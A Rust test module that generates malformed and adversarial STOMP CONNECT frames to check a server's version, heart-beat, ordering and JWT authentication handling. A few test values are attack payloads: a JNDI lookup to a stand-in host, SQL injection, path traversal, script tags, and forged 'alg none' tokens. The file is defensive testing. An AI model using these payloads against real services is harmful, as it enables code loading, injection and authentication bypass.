//! CONNECT as no client should send it, and frames before or beside it (stomp.md N1–N8, H4, H5).

use super::{
    case::{
        Case,
        Stage::{Anonymous, Upgraded, V10, V12},
        extend, raw,
        texts::{
            ALREADY_CONNECTED, CONNECT_FIRST, INVALID_HEART_BEAT, UNAUTHENTICATED, UNKNOWN_COMMAND,
            UNSUPPORTED_VERSION,
        },
    },
    ground::Names,
};

const V12_ONLY: &str = "accept-version:1.2";

/// No version that there is.
const NO_VERSION: [&str; 33] = [
    "",
    " ",
    ",",
    "0.9",
    "1",
    "1.",
    ".2",
    "2.0",
    "1.3",
    "1.20",
    "1.2.0",
    "01.2",
    "1,2",
    "1.2;1.1",
    "1.1 1.2",
    "v1.2",
    "V12",
    "v12.stomp",
    "*",
    "1.*",
    "1.2q=1",
    "'1.2'",
    "\"1.2\"",
    "１.２",
    "1٫2",
    "1.2\\n",
    "1.2\\c1.1",
    "-1.2",
    "+1.2",
    "1.2e0",
    "99999999999999999999.2",
    "null",
    "1.2\u{200b}",
];

pub fn cases(names: &Names) -> Vec<Case> {
    [
        versions(),
        hosts_and_names(),
        bad_tokens(names),
        misplaced_tokens(names),
        others(names),
        order(names),
        heart_beats(),
    ]
    .concat()
}

fn versions() -> Vec<Case> {
    let mut cases = Vec::new();
    let connect = |accept: &str| raw("CONNECT", &[&format!("accept-version:{accept}")], "");
    for accept in NO_VERSION {
        let case = Case::new(
            format!("N2 accept-version {accept:?}"),
            Upgraded,
            connect(accept),
        );
        cases.push(case.error(UNSUPPORTED_VERSION));
    }
    for (accept, chosen) in [
        ("1.2,1.2,1.2", "1.2"),
        (",1.1,,", "1.1"),
        ("  1.0  ,   1.1  ", "1.1"),
        ("2.0,1.0,9.9", "1.0"),
        ("1.3,1.2.1,01.2,1.1", "1.1"),
        ("1.0;1.2,1.0", "1.0"),
    ] {
        let case = Case::new(
            format!("N1 accept-version {accept:?}"),
            Upgraded,
            connect(accept),
        );
        cases.push(case.connected(chosen));
    }
    let many = format!("{}1.1", "7.7,".repeat(2_000));
    let first = ["accept-version:1.1", V12_ONLY];
    let worse = ["accept-version:9", V12_ONLY];
    cases.extend([
        Case::new("N1 two thousand versions", Upgraded, connect(&many)).connected("1.1"),
        Case::new(
            "N1 F7 two accept-versions",
            Upgraded,
            raw("CONNECT", &first, ""),
        )
        .connected("1.1"),
        Case::new(
            "N2 F7 the wrong accept-version first",
            Upgraded,
            raw("CONNECT", &worse, ""),
        )
        .error(UNSUPPORTED_VERSION),
        Case::new("N1 no header at all", Upgraded, raw("CONNECT", &[], "")).connected("1.0"),
        Case::new(
            "N1 a header of another name",
            Upgraded,
            raw("STOMP", &["Accept-Version:1.2"], ""),
        )
        .connected("1.0"),
        Case::new(
            "N1 a body in a CONNECT of 1.0",
            Upgraded,
            raw("CONNECT", &[], "hello"),
        )
        .connected("1.0"),
    ]);
    cases
}

fn hosts_and_names() -> Vec<Case> {
    let mut cases = Vec::new();
    for header in [
        "host:",
        "host:evil.example",
        "host:/",
        "host:../../etc/passwd",
        "host:a\\nb",
        "host:\u{202e}",
        "login:user2",
        "passcode:1234",
        "user-name:2",
        "user-name:admin",
        "X-Customer-Id:2",
        "x-customer-id:2",
        "session:1",
        "server:RabbitMQ",
        "version:1.0",
        "destination:/topic/**",
        "id:0",
        "transaction:t",
        "receipt:r",
        "receipt-id:r",
        "content-length:0",
        "content-type:application/json",
        "cookie:jwt_token=x",
        "__proto__:x",
        "constructor:x",
        "k:${jndi:ldap://evil.example/x}",
        "k:' OR 1=1 --",
        "k:%00",
        "k:<script>",
    ] {
        let sent = raw("CONNECT", &[V12_ONLY, header], "");
        let case = Case::new(format!("N3 N8 CONNECT with {header}"), Upgraded, sent);
        cases.push(case.connected("1.2"));
    }
    cases
}

fn bad_tokens(names: &Names) -> Vec<Case> {
    let token = names.token.as_str();
    let parts: Vec<&str> = token.split('.').collect();
    let [header, claims, signature] = parts[..] else {
        return Vec::new();
    };
    let other_claims = names.other_token.split('.').nth(1).unwrap_or_default();
    // {"alg":"none"} and {"alg":"HS256"}.
    let (none, hs256) = ("eyJhbGciOiJub25lIn0", "eyJhbGciOiJIUzI1NiJ9");
    let turned = signature.chars().rev().collect::<String>();
    let mut cases = vec![
        Case::new(
            "N5 login and passcode of a customer",
            Anonymous,
            raw("CONNECT", &[V12_ONLY, "login:user1", "passcode:123"], ""),
        )
        .error(UNAUTHENTICATED),
        Case::new(
            "N5 no token and no version",
            Anonymous,
            raw("CONNECT", &[], ""),
        )
        .error(UNAUTHENTICATED),
    ];
    for (name, line) in [
        ("nothing", String::new()),
        ("a space", " ".to_owned()),
        ("garbage", "garbage".to_owned()),
        ("dots", "..".to_owned()),
        ("many dots", ".".repeat(8_000)),
        ("8,000 letters", "e".repeat(8_000)),
        ("a scheme before it", format!("Bearer {token}")),
        ("the cookie's name before it", format!("jwt_token={token}")),
        ("a space before it", format!(" {token}")),
        ("a space behind it", format!("{token} ")),
        ("quotes around it", format!("\"{token}\"")),
        ("a dot behind it", format!("{token}.")),
        ("padding behind it", format!("{token}=")),
        ("itself behind it", format!("{token},{token}")),
        ("an escaped line end behind it", format!("{token}\\n")),
        ("no signature", format!("{header}.{claims}.")),
        ("no signature and no dot", format!("{header}.{claims}")),
        ("no claims", format!("{header}..{signature}")),
        ("no header", format!(".{claims}.{signature}")),
        ("a turned signature", format!("{header}.{claims}.{turned}")),
        (
            "another's claims",
            format!("{header}.{other_claims}.{signature}"),
        ),
        ("the algorithm none", format!("{none}.{claims}.")),
        (
            "the algorithm none with a signature",
            format!("{none}.{claims}.{signature}"),
        ),
        (
            "a symmetric algorithm",
            format!("{hs256}.{claims}.{signature}"),
        ),
        ("its parts turned", format!("{signature}.{claims}.{header}")),
        ("capitals", token.to_uppercase()),
        ("percent encoding", token.replace('.', "%2E")),
        ("a full-width dot", token.replace('.', "．")),
        ("the customer's id", "1".to_owned()),
        ("JSON", "{\"sub\":\"1\"}".to_owned()),
        ("SQL", "' OR '1'='1".to_owned()),
    ] {
        let line = format!("jwt_token:{line}");
        let case = Case::new(
            format!("N5 a token with {name}"),
            Anonymous,
            raw("CONNECT", &[V12_ONLY, &line], ""),
        );
        cases.push(case.error(UNAUTHENTICATED));
    }
    cases
}

fn misplaced_tokens(names: &Names) -> Vec<Case> {
    let token = names.token.as_str();
    let mut cases = Vec::new();
    for name in [
        "JWT_TOKEN",
        "Jwt_Token",
        "jwt-token",
        "jwt_token ",
        " jwt_token",
        "token",
        "Authorization",
        "authorization",
        "passcode",
        "cookie",
        "X-Auth-Token",
        "jwt\\_token",
    ] {
        let line = format!("{name}:{token}");
        let case = Case::new(
            format!("N5 a good token as {name:?}"),
            Anonymous,
            raw("CONNECT", &[V12_ONLY, &line], ""),
        );
        cases.push(case.error(UNAUTHENTICATED));
    }
    let (good, bad) = (format!("jwt_token:{token}"), "jwt_token:garbage");
    cases.extend([
        Case::new(
            "N5 F7 a bad token before a good one",
            Anonymous,
            raw("CONNECT", &[V12_ONLY, bad, &good], ""),
        )
        .error(UNAUTHENTICATED),
        Case::new(
            "N5 F7 a good token before a bad one",
            Anonymous,
            raw("CONNECT", &[V12_ONLY, &good, bad], ""),
        )
        .connected("1.2"),
        Case::new(
            "N5 a bad token with a receipt",
            Anonymous,
            raw("CONNECT", &[V12_ONLY, bad, "receipt:r"], ""),
        )
        .error(UNAUTHENTICATED),
        Case::new(
            "N5 R4 a second try in the same packet",
            Anonymous,
            [raw("CONNECT", &[bad], ""), raw("CONNECT", &[&good], "")].concat(),
        )
        .error(UNAUTHENTICATED),
    ]);
    cases
}

/// A good cookie, and a header that says otherwise (contract §5: the header is then ignored, whatever it holds).
fn others(names: &Names) -> Vec<Case> {
    let theirs = format!("jwt_token:{}", names.other_token);
    let mut cases = Vec::new();
    for (name, line) in [
        ("another's token", theirs.as_str()),
        ("garbage", "jwt_token:garbage"),
        ("nothing", "jwt_token:"),
    ] {
        let sent = raw("CONNECT", &[V12_ONLY, line], "");
        let case = Case::new(
            format!("a good cookie and {name} in the header"),
            Upgraded,
            sent,
        );
        cases.push(case.connected("1.2"));
        let sent = raw("CONNECT", &[V12_ONLY, line, "receipt:r"], "");
        let case = Case::new(format!("N4 a second CONNECT with {name}"), V12, sent);
        cases.push(case.error(ALREADY_CONNECTED));
    }
    cases
}

fn order(names: &Names) -> Vec<Case> {
    let mut cases = Vec::new();
    let room = format!("destination:/topic/message/roomId/{}", names.room);
    for command in [
        "SEND",
        "SUBSCRIBE",
        "UNSUBSCRIBE",
        "ACK",
        "NACK",
        "BEGIN",
        "COMMIT",
        "ABORT",
        "DISCONNECT",
    ] {
        let sent = raw(command, &[&room, "id:0", "receipt:r"], "");
        for stage in [Upgraded, Anonymous] {
            let case = Case::new(
                format!("N4 {command} before CONNECT ({stage:?})"),
                stage,
                sent.clone(),
            );
            cases.push(case.error_for(CONNECT_FIRST, "r"));
        }
        let both = [sent, raw("CONNECT", &[V12_ONLY], "")].concat();
        let case = Case::new(
            format!("N4 R4 {command} before CONNECT in one packet"),
            Upgraded,
            both,
        );
        cases.push(case.error_for(CONNECT_FIRST, "r"));
    }
    for command in ["CONNECT", "STOMP"] {
        for stage in [V10, V12] {
            let case = Case::new(
                format!("N4 a second {command} ({stage:?})"),
                stage,
                raw(command, &[], ""),
            );
            cases.push(case.error(ALREADY_CONNECTED));
        }
    }
    let connect = || raw("CONNECT", &[V12_ONLY], "");
    let early = [connect(), extend(&[], ""), extend(&[], "")].concat();
    cases.extend([
        Case::new("N7 frames behind CONNECT in one packet", Upgraded, early)
            .connected("1.2")
            .receipt("r")
            .receipt("r"),
        Case::new(
            "N7 nonsense behind CONNECT in one packet",
            Upgraded,
            [connect(), b"NONSENSE\n\n\0".to_vec()].concat(),
        )
        .connected("1.2")
        .error(UNKNOWN_COMMAND),
        Case::new(
            "N7 F13 escapes behind CONNECT are of its version",
            Upgraded,
            [
                connect(),
                raw("UNSUBSCRIBE", &["id:a\\cb", "receipt:\\r"], ""),
            ]
            .concat(),
        )
        .connected("1.2")
        .receipt("\\r"),
        Case::new(
            "N4 two CONNECTs in one packet",
            Upgraded,
            [connect(), connect()].concat(),
        )
        .connected("1.2")
        .error(ALREADY_CONNECTED),
        Case::new(
            "N1 STOMP is CONNECT",
            Upgraded,
            raw("STOMP", &[V12_ONLY], ""),
        )
        .connected("1.2"),
    ]);
    cases
}

fn heart_beats() -> Vec<Case> {
    let connect = |value: &str| raw("CONNECT", &[V12_ONLY, &format!("heart-beat:{value}")], "");
    let mut cases = Vec::new();
    for value in [
        "",
        ",",
        "abc",
        "10000",
        "0",
        "1,",
        ",1",
        "-1,0",
        "0,-1",
        "+1,0",
        "0,0,0",
        "0,0,",
        ",0,0",
        "0;0",
        "0 0",
        "0.0,0",
        "1e3,0",
        "0x10,0",
        "1_000,0",
        "٠,٠",
        "０,０",
        "4294967296,0",
        "0,4294967296",
        "18446744073709551616,0",
        "99999999999999999999999999,0",
        "NaN,NaN",
        "null,null",
        "0,0\\n",
        "true,false",
        "0\\c0",
        "10 000,0",
        "0،0",
    ] {
        let case = Case::new(
            format!("H4 a heart-beat of {value:?}"),
            Upgraded,
            connect(value),
        );
        cases.push(case.error(INVALID_HEART_BEAT));
    }
    for value in ["0,0", "1,1", "0,1", "4294967295,4294967295", "999,1000"] {
        let case = Case::new(
            format!("H5 a heart-beat of {value:?}"),
            Upgraded,
            connect(value),
        );
        cases.push(case.connected("1.2"));
    }
    let twice = raw("CONNECT", &[V12_ONLY, "heart-beat:0,0", "heart-beat:x"], "");
    cases.push(Case::new("H4 F7 the first of two heart-beats", Upgraded, twice).connected("1.2"));
    cases
}
